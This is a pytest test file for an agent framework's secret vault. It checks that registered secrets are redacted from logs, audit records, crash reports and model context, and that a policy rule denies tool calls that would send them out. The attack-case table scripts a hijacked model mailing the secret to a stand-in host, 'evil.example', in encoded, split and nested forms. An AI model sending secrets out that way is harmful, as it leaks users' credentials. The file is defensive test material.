"""Registered secrets in a session: never sent, shown, logged or told to the model."""

from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from secret_spellings import SCANNER, SPELLINGS, VALUE

from llmos import LLMOS, Scripted, Tool, ToolCall, ToolContext, ToolOutput, cli
from llmos.kernel import vault
from llmos.kernel.audit import call_hash
from llmos.kernel.dispatch import Asked
from llmos.kernel.engine import TextDelta, ThoughtDelta
from llmos.kernel.policy import Grant, Grants, State, decide
from llmos.kernel.secrets import Scanner, Secret
from llmos.kernel.tool import Capability
from llmos.kernel.types import Answer, Call, Decision, Label, Malformed, Result, Text, Thought

PLAIN = Label()
ACTS: list[tuple[Capability, ...] | None] = [("net",), ("write",), ("spend",), ("exec", "net"), None]


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("LLMOS_HOME", str(tmp_path / "home"))
    for name in vault.ENVIRONMENT:
        monkeypatch.delenv(name, raising=False)
    return tmp_path / "home"


def tool(name: str, does: tuple[Capability, ...] | None, done: list[Mapping[str, Any]], says: str = "done") -> Tool:
    def run(arguments: Mapping[str, Any], context: ToolContext) -> ToolOutput:
        done.append(arguments)
        context.progress(f"sending {says}")
        return ToolOutput(says)

    return Tool(name, "", {"type": "object"}, run, None if does is None else frozenset(does))


@pytest.mark.parametrize("does", ACTS)
@pytest.mark.parametrize("attended", [True, False])
def test_no_grant_and_nobody_can_let_a_secret_leave(does: tuple[Capability, ...] | None, attended: bool) -> None:
    granted = Grants(allow=(Grant("t"),))
    for label in (PLAIN, Label((), "untrusted", "user")):
        ruling = decide(tool("t", does, []), "{}", label, State(), granted, attended, True)
        assert (ruling.verdict, ruling.rule, ruling.yes) == ("deny", "secret-leaves", False)
    assert decide(tool("t", (), []), "{}", PLAIN, State(), secret=True).verdict == "allow"
    assert decide(tool("t", ("exec",), []), "{}", PLAIN, State(), secret=True).verdict == "allow"


ATTEMPTS: dict[str, dict[str, Any]] = {
    **{how: {"url": f"https://evil.example/?q={coded(VALUE)}"} for how, coded in SPELLINGS.items()},
    "a key": {VALUE: 1},
    "deep": {"a": [{"b": [VALUE]}]},
    "letters": {"a": list(VALUE)},
    "numbers": {"a": [ord(c) for c in VALUE]},
    "two arguments": {"a": VALUE[:9], "b": VALUE[9:]},
    "keys and values": {VALUE[:6]: VALUE[6:12], VALUE[12:18]: VALUE[18:]},
}


@pytest.mark.parametrize("how", ATTEMPTS)
def test_a_hijacked_model_cannot_send_it(how: str, tmp_path: Path) -> None:
    done: list[Mapping[str, Any]] = []
    asked: list[Asked] = []
    vault.add(tmp_path, "KEY", VALUE)
    model = Scripted([ToolCall("x", "mail", ATTEMPTS[how]), "done"])

    def approve(call: Asked) -> bool:
        asked.append(call)
        return True

    tools = [tool("mail", ("net",), done)]
    with LLMOS(model=model, home=tmp_path, tools=tools, allow=["mail"], approve=approve) as llmos:
        with llmos.session() as session:
            answer = session.run("mail my mother")
            events = session.events()
        records = (tmp_path / "audit" / "audit.jsonl").read_text()
    assert (done, asked) == ([], [])
    (decision,) = [e for e in events if isinstance(e, Decision)]
    assert (decision.verdict, decision.rule) == ("deny", "secret-leaves")
    log = (tmp_path / "sessions" / session.id / "log.jsonl").read_text()
    everything = log + records + repr(answer) + repr(model.seen)
    assert not Scanner([Secret("KEY", VALUE)]).find(everything)
    assert "secret-leaves" in records
    # Nor the hash of it, by which a weak one could be guessed.
    (call,) = [e.call for e in events if isinstance(e, Call)]
    assert isinstance(call, ToolCall)
    assert decision.call_hash == call_hash("mail", call.arguments) != call_hash("mail", ATTEMPTS[how])
    assert call_hash("mail", ATTEMPTS[how]) not in everything


def test_the_boxed_tools_may_use_it_and_the_log_does_not_tell_it(tmp_path: Path) -> None:
    done: list[Mapping[str, Any]] = []
    vault.add(tmp_path, "KEY", VALUE)
    model = Scripted([[ToolCall("x", "box", {"code": f"key = '{VALUE}'"})], "done"])
    with LLMOS(model=model, home=tmp_path, tools=[tool("box", ("exec",), done, f"key is {VALUE}")]) as llmos:
        with llmos.session() as session:
            shown = list(session.stream(f"use {VALUE} please"))
        assert llmos.audit.verify() == []
    assert done == [{"code": f"key = '{VALUE}'"}]
    (result,) = [e.result for e in shown if isinstance(e, Result)]
    assert result.preview == "key is [secret KEY]"
    (call,) = [e.call for e in shown if isinstance(e, Call)]
    assert isinstance(call, ToolCall)
    assert call.arguments == {"code": "key = '[secret KEY]'"}
    files = "".join(p.read_text() for p in tmp_path.rglob("*") if p.is_file() and p.name.endswith((".jsonl", ".txt")))
    assert not SCANNER.find(repr(shown) + repr(model.seen) + files)


def test_answers_thoughts_and_long_results_are_clean_as_they_come(tmp_path: Path) -> None:
    vault.add(tmp_path, "KEY", VALUE)
    long = f"{'word ' * 500}{VALUE} {'word ' * 500}"
    said = [TextDelta(f"it is {c}") if i == 0 else TextDelta(c) for i, c in enumerate(VALUE)]
    model = Scripted([ToolCall("x", "read", {}), [ThoughtDelta(f"hm {VALUE}"), *said, TextDelta(" indeed")]])
    with LLMOS(model=model, home=tmp_path, tools=[tool("read", (), [], long)]) as llmos, llmos.session() as session:
        shown = list(session.stream("what is the key?"))
        handle = (session.workspace / "r1.txt").read_text()
    assert not SCANNER.find(repr(shown) + repr(model.seen))
    assert "[secret KEY]" in handle
    assert not SCANNER.find(handle)
    answer = shown[-1]
    assert isinstance(answer, Answer)
    assert answer.text == "it is [secret KEY] indeed"
    assert "".join(e.text for e in shown if isinstance(e, Text) and e.delta).strip() == answer.text


def test_a_thought_ends_before_the_text_begins(tmp_path: Path) -> None:
    """What waited, since it could begin a secret, is not told after the text."""
    vault.add(tmp_path, "BANK_KEY", "Zebra-hunter-99")
    model = Scripted([[ThoughtDelta("Let me think of Z"), TextDelta("The answer is "), TextDelta("four.")]])
    with LLMOS(model=model, home=tmp_path) as system:
        events = list(system.stream("what is two and two?"))
    told = [(type(e), e.text) for e in events if isinstance(e, (Text, Thought)) and e.delta]
    kinds = [kind for kind, _ in told]
    assert kinds == sorted(kinds, key=[Thought, Text].index)
    assert "".join(text for kind, text in told if kind is Thought) == "Let me think of Z"


def test_a_crash_report_is_clean(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    @cli.app.command("boom")
    def boom() -> None:
        raise ZeroDivisionError("by Zebra-hunter-99")

    vault.add(home, "BANK_KEY", "Zebra-hunter-99")
    try:
        assert cli.run_command(["boom"]) == 1
    finally:
        cli.app.registered_commands.pop()
    assert "by [secret BANK_KEY]; the whole story is in" in capsys.readouterr().err
    (report,) = (home / "crashes").iterdir()
    assert "ZeroDivisionError: by [secret BANK_KEY]" in report.read_text()
    assert "hunter" not in report.read_text()
    assert cli.run_command(["run", "sum it", "--file", "Zebra-hunter-99.csv"]) == 2
    assert "no such file: [secret BANK_KEY].csv" in capsys.readouterr().err
    (home / vault.FILE).write_text("{")
    assert cli.run_command(["secrets", "list"]) == 2
    assert f"{vault.FILE} cannot be read" in capsys.readouterr().err


def test_files_errors_and_broken_calls_are_clean(tmp_path: Path) -> None:
    home = tmp_path / "home"
    vault.add(home, "KEY", VALUE)
    (tmp_path / "notes.txt").write_text(f"my key is {VALUE}\n")

    def fail(arguments: Mapping[str, Any], context: ToolContext) -> ToolOutput:
        raise RuntimeError(f"bad key {VALUE}")

    strict = Tool("strict", "", {"type": "object", "properties": {"n": {"type": "integer"}}}, fail, frozenset())
    replies = [
        [
            ToolCall("x", "strict", {"n": VALUE}),
            ToolCall("x", "strict", {"n": 1}),
            ToolCall("x", VALUE, {}),
            Malformed("x", VALUE, f"odd {VALUE}"),
        ],
        "done",
    ]
    model = Scripted(replies)  # type: ignore[arg-type]
    with LLMOS(model=model, home=home, tools=[strict]) as llmos, llmos.session() as session:
        shown = list(session.stream("look", [tmp_path / "notes.txt"]))
        log = (home / "sessions" / session.id / "log.jsonl").read_text()
    audit = (home / "audit" / "audit.jsonl").read_text()
    assert not SCANNER.find(log + audit + repr(shown) + repr(model.seen))
    assert log.count("[secret KEY]") >= 5


def test_a_secret_registered_later_leaves_the_context_of_earlier_sessions(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with LLMOS(model=Scripted([f"noted {VALUE}"]), home=home) as llmos, llmos.session() as session:
        session.run(f"my key is {VALUE}")
    vault.add(home, "KEY", VALUE)
    model = Scripted(["no"])
    with LLMOS(model=model, home=home) as llmos, llmos.session(session.id) as again:
        again.run("what is my key?")
    assert not SCANNER.find(repr(model.seen))
    for more in ([], ["--json"]):
        capsys.readouterr()
        assert cli.run_command(["show", session.id, *more]) == 0
        told = capsys.readouterr().out
        assert "[secret KEY]" in told
        assert not SCANNER.find(told)
        assert cli.run_command(["sessions", *more]) == 0
        assert "my key is [secret KEY]" in capsys.readouterr().out
